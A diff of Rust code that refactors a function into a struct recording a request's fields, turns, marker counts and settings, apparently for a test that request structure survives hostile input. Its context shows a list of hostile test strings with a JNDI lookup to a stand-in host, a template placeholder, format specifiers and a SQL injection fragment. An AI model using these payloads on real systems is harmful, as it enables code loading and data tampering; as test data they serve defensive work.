@@ -25,18 +25,28 @@ const HOSTILE: &[&str] = &[
     "{{system}} ${jndi:ldap://evil.example.com} %s %n ' OR 1=1 --",
 ];
 
-/// What stays the same: fields, instructions, roles and blocks of each turn, marks, settings.
-fn outline(request: &Request) -> (Vec<&String>, Vec<&str>, Vec<(&str, usize)>, Vec<usize>, Vec<&Value>) {
-    let body = request.body.as_object().unwrap();
-    let marks = ["⟦question⟧", "⟦/question⟧", "⟦passage⟧", "⟦/passage⟧", "⟦", "⟧"];
+/// What stays the same of a request.
+#[derive(Debug, PartialEq)]
+struct Outline<'r> {
+    fields: Vec<&'r String>,
+    system: Vec<&'r str>,
+    /// The role of each turn, and how many texts it has.
+    turns: Vec<(&'r str, usize)>,
+    /// How often each mark stands in the turns, and what marks are made of.
+    marks: [usize; 6],
+    settings: [&'r Value; 2],
+}
+
+fn outline(request: &Request) -> Outline<'_> {
     let texts = request.body["messages"].to_string();
-    (
-        body.keys().collect(),
-        request.system(),
-        request.turns().into_iter().map(|(role, texts)| (role, texts.len())).collect(),
-        marks.iter().map(|mark| texts.matches(mark).count()).collect(),
-        vec![&request.body["inferenceConfig"], &request.body["toolConfig"]],
-    )
+    Outline {
+        fields: request.body.as_object().unwrap().keys().collect(),
+        system: request.system(),
+        turns: request.turns().into_iter().map(|(role, texts)| (role, texts.len())).collect(),
+        marks: ["⟦question⟧", "⟦/question⟧", "⟦passage⟧", "⟦/passage⟧", "⟦", "⟧"]
+            .map(|mark| texts.matches(mark).count()),
+        settings: [&request.body["inferenceConfig"], &request.body["toolConfig"]],
+    }
 }
 
 /// The request for a message that goes on.
